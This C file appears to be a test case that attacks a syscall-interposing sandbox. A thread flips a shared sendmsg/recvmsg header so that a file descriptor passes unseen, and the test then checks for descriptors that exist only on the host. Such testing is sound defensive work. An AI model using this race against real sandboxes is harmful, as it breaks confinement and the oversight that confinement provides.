// sendmsg and recvmsg with the header in memory that another process flips: without control data when it is checked, with
// a descriptor when the host reads it. What is passed natively the model knows nothing of; a number closed natively in
// the stub's place then is the model's memory file and the host's granted file.
#include "hostile.h"

static struct msghdr *header;
static atomic_int *flips;

static void flipper(void) {
    while (1) {
        header->msg_controllen = CMSG_SPACE(sizeof(int));
        for (int i = 0; i < 40; i++) asm volatile("pause");
        header->msg_controllen = 0;
        for (int i = 0; i < 40; i++) asm volatile("pause");
    }
}

static void attack(void) {
    char *page = shared_pages(4096, PROT_READ | PROT_WRITE);
    header = (struct msghdr *)page;
    char *control = page + 512;
    struct iovec *data = (struct iovec *)(page + 256);
    *data = (struct iovec){page + 1024, 1};
    int pair[2], granted = open("/granted/file", O_RDONLY);
    socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
    racer(flipper);
    // One descriptor beyond those that are open is what a native arrival would be called.
    int highest = open("/granted/other", O_RDONLY);
    close(highest);
    while (left() > 0) {
        *header = (struct msghdr){.msg_iov = data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = 0};
        struct cmsghdr *head = (struct cmsghdr *)control;
        *head = (struct cmsghdr){CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS};
        memcpy(CMSG_DATA(head), &granted, sizeof granted);
        if (RAW(SYS_sendmsg, pair[0], header, MSG_DONTWAIT) < 0) continue;
        memset(control, 0, 64);
        if (RAW(SYS_recvmsg, pair[1], header, MSG_DONTWAIT) < 0) {
            RAW(SYS_recvfrom, pair[1], page + 1024, 1, MSG_DONTWAIT);
            continue;
        }
        round_done();
        // Reads are native: a number that the model does not know but that can be read is the host's.
        for (int fd = highest; fd < highest + 3; fd++) {
            char bytes[8];
            if (RAW(SYS_pread64, fd, bytes, sizeof bytes, 0) > 0 && fcntl(fd, F_GETFD) < 0)
                succeeded("has descriptor %d only on the host", fd);
            if (fcntl(fd, F_GETFD) >= 0) close(fd);
        }
    }
}
